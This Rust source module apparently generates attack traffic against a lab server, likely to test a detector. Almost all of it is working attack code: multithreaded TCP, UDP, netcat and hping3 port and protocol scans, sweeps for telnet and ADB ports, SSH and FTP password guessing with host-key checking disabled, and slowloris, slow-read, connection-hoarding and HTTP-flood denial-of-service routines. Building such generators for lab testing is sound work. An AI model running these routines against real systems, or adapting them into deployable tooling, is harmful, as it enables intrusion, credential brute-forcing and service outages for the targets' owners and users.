//! Attacks in code of our own, where no tool has the rate or the family that is wanted.

use std::{
    io::{BufRead, BufReader, Write},
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket},
    process::Command,
    sync::atomic::{AtomicU16, Ordering},
    thread,
    time::Duration,
};

use anyhow::{Context, Result};

use crate::{
    peers,
    persona::{PASSWORD, USER},
    process::{Stop, succeed},
    web::Connection,
};

/// How long a scanner waits for an answer.
const PATIENCE: Duration = Duration::from_millis(500);
/// The pause between two guesses.
const GUESS: Duration = Duration::from_secs(2);

/// Completes connections to two thousand ports in no order that a reader would recognise, from sixteen threads.
pub(super) fn scan_fast(server: IpAddr, stop: &Stop) -> Result<()> {
    scan(server, stop, 2000, 16, Duration::from_millis(60))
}

/// Five ports a second, one after the other.
pub(super) fn scan_slowly(server: IpAddr, stop: &Stop) -> Result<()> {
    scan(server, stop, 200, 1, Duration::from_millis(200))
}

fn scan(server: IpAddr, stop: &Stop, ports: u16, threads: usize, pause: Duration) -> Result<()> {
    let next = AtomicU16::new(0);
    thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                loop {
                    let turn = next.fetch_add(1, Ordering::Relaxed);
                    if turn >= ports || !stop.sleep(pause) {
                        return;
                    }
                    // 1009 is prime, so every residue of a smaller range comes once.
                    let port = 1 + (u32::from(turn) * 1009 % u32::from(ports)) as u16;
                    let _ = TcpStream::connect_timeout(&SocketAddr::new(server, port), PATIENCE);
                }
            });
        }
    });
    Ok(())
}

/// Asks each of the server's further addresses for a door that a device of the household leaves open, ten a second.
pub(super) fn sweep(server: IpAddr, stop: &Stop) -> Result<()> {
    for port in [23, 2323, 5555] {
        for peer in peers::all(server.is_ipv6()) {
            if !stop.sleep(Duration::from_millis(100)) {
                return Ok(());
            }
            let _ = TcpStream::connect_timeout(&SocketAddr::new(peer.address, port), PATIENCE);
        }
    }
    Ok(())
}

/// netcat in a loop, a dozen ports a second: by itself it pauses at open ports alone.
pub(super) fn scan_with_netcat(server: IpAddr, stop: &Stop) -> Result<()> {
    for port in (20..u16::MAX).step_by(7) {
        let mut command = Command::new("nc");
        command.args(["-n", "-z", "-w", "1", &server.to_string(), &port.to_string()]);
        // A closed port is a failure to netcat.
        let _ = succeed(command, "/dev/null".as_ref(), stop);
        if !stop.sleep(Duration::from_millis(70)) {
            break;
        }
    }
    Ok(())
}

/// Fifteen UDP ports a second, one datagram each.
pub(super) fn scan_datagrams(server: IpAddr, stop: &Stop) -> Result<()> {
    let unspecified: IpAddr =
        if server.is_ipv6() { Ipv6Addr::UNSPECIFIED.into() } else { Ipv4Addr::UNSPECIFIED.into() };
    let socket = UdpSocket::bind((unspecified, 0))?;
    for turn in 0..400_u32 {
        // An earlier port's refusal is told at the next send.
        let _ = socket.send_to(b"\0", (server, 1 + (turn * 1009 % 4000) as u16));
        if !stop.sleep(Duration::from_millis(65)) {
            break;
        }
    }
    Ok(())
}

/// Ten IP protocols a second, with hping3 in a loop: by itself it asks one.
pub(super) fn scan_protocols(server: IpAddr, stop: &Stop) -> Result<()> {
    let next = AtomicU16::new(3);
    thread::scope(|scope| {
        for _ in 0..12 {
            scope.spawn(|| {
                while stop.sleep(Duration::from_millis(100)) {
                    let protocol = next.fetch_add(1, Ordering::Relaxed);
                    if protocol > 255 {
                        return;
                    }
                    let mut command = Command::new("hping3");
                    command.args([
                        "-q",
                        "--rawip",
                        "-H",
                        &protocol.to_string(),
                        "-c",
                        "1",
                        &server.to_string(),
                    ]);
                    // No answer is a failure to hping3.
                    let _ = succeed(command, "/dev/null".as_ref(), stop);
                }
            });
        }
    });
    Ok(())
}

/// A wrong password every two seconds, and the right one at the end.
pub(super) fn guess_ssh(server: IpAddr, stop: &Stop) -> Result<()> {
    guess(stop, |password| {
        let mut command = Command::new("sshpass");
        command.args(["-p", password, "ssh", "-F", "/dev/null", "-l", USER]);
        for option in [
            "StrictHostKeyChecking=no",
            "UserKnownHostsFile=/dev/null",
            "PubkeyAuthentication=no",
            "NumberOfPasswordPrompts=1",
        ] {
            command.args(["-o", option]);
        }
        command.arg(server.to_string()).arg("true");
        succeed(command, "/dev/null".as_ref(), stop)
    })
}

/// The same over FTP.
pub(super) fn guess_ftp(server: IpAddr, stop: &Stop) -> Result<()> {
    guess(stop, |password| {
        let stream = TcpStream::connect((server, 21))?;
        stream.set_read_timeout(Some(Duration::from_secs(10)))?;
        let (mut reader, mut writer, mut line) = (BufReader::new(stream.try_clone()?), stream, String::new());
        for command in [format!("USER {USER}"), format!("PASS {password}"), "QUIT".to_owned()] {
            reader.read_line(&mut line)?;
            writer.write_all(format!("{command}\r\n").as_bytes())?;
        }
        reader.read_line(&mut line)?;
        Ok(())
    })
}

/// Guesses until ten seconds before the end, at a known rate whatever the server's own delay is.
fn guess(stop: &Stop, attempt: impl Fn(&str) -> Result<()> + Sync) -> Result<()> {
    const GUESSES: u32 = 24;
    thread::scope(|scope| {
        for i in 0..GUESSES {
            let attempt = &attempt;
            // A wrong guess is an error to the one who guesses, and the end of nothing.
            scope.spawn(move || attempt(&format!("wrong-{i}")).is_ok());
            if !stop.sleep(GUESS) {
                return Ok(());
            }
        }
        attempt(PASSWORD).context("the right password did not let the guesser in")
    })
}

/// Two hundred connections that send a header line now and then, and never the last.
pub(super) fn slowloris(server: IpAddr, stop: &Stop) -> Result<()> {
    starve(server, stop, 200, Duration::from_secs(5))
}

/// As few connections as hurt a small server, with long pauses.
pub(super) fn slowloris_few(server: IpAddr, stop: &Stop) -> Result<()> {
    starve(server, stop, 30, Duration::from_secs(10))
}

/// Opens `count` connections whose requests never end, and sends a line over each after every `pause`.
pub fn starve(server: IpAddr, stop: &Stop, count: usize, pause: Duration) -> Result<()> {
    let begin = "GET / HTTP/1.1\r\nHost: lab.test\r\nUser-Agent: lab\r\n";
    drip(server, stop, count, begin, "X-a: b\r\n", pause)
}

/// A hundred forms of which one byte comes now and then.
pub(super) fn slow_body(server: IpAddr, stop: &Stop) -> Result<()> {
    let begin = "POST /app/form HTTP/1.1\r\nHost: lab.test\r\nContent-Length: 100000\r\n\r\n";
    drip(server, stop, 100, begin, "a", Duration::from_secs(3))
}

fn drip(server: IpAddr, stop: &Stop, count: usize, begin: &str, drop: &str, pause: Duration) -> Result<()> {
    let mut connections = Vec::new();
    for _ in 0..count {
        let mut connection = Connection::open(server)?;
        connection.send(begin)?;
        connections.push(connection);
        thread::sleep(Duration::from_millis(5));
    }
    while stop.sleep(pause) {
        for connection in &mut connections {
            connection.send(drop)?;
        }
    }
    Ok(())
}

/// Eighty connections that ask for a large file and take a few bytes of it every second; what breaks is
/// replaced.
pub(super) fn slow_read(server: IpAddr, stop: &Stop) -> Result<()> {
    let mut connections: Vec<Connection> = Vec::new();
    while stop.sleep(Duration::from_secs(1)) {
        connections.retain_mut(|connection| connection.sip(1000).is_ok());
        while connections.len() < 80 && stop.sleep(Duration::from_millis(20)) {
            let mut connection = Connection::narrow(server)?;
            connection.send("GET /big.bin HTTP/1.1\r\nHost: lab.test\r\n\r\n")?;
            connections.push(connection);
        }
    }
    Ok(())
}

/// Three hundred connections that say nothing at all.
pub(super) fn idle_hoard(server: IpAddr, stop: &Stop) -> Result<()> {
    let connections = (0..300).map(|_| Connection::open(server)).collect::<Result<Vec<_>>>()?;
    while stop.sleep(Duration::from_secs(1)) {}
    drop(connections);
    Ok(())
}

/// Ten such connections a second.
pub(super) fn idle_hoard_slowly(server: IpAddr, stop: &Stop) -> Result<()> {
    let mut connections = Vec::new();
    while connections.len() < 400 && stop.sleep(Duration::from_millis(100)) {
        connections.push(Connection::open(server)?);
    }
    Ok(())
}

/// Whole requests from forty threads, a connection for each, about eight hundred a second.
pub(super) fn flood_fast(server: IpAddr, stop: &Stop) -> Result<()> {
    flood(server, stop, 40, Duration::from_millis(50))
}

/// The same from thirty threads, about two hundred a second: fewer than eighty a client in a loop asks for as well.
pub(super) fn flood_slowly(server: IpAddr, stop: &Stop) -> Result<()> {
    flood(server, stop, 30, Duration::from_millis(150))
}

fn flood(server: IpAddr, stop: &Stop, threads: usize, pause: Duration) -> Result<()> {
    thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                while stop.sleep(pause) {
                    let _ = Connection::open(server).and_then(|mut c| c.get("/index.html"));
                }
            });
        }
    });
    Ok(())
}
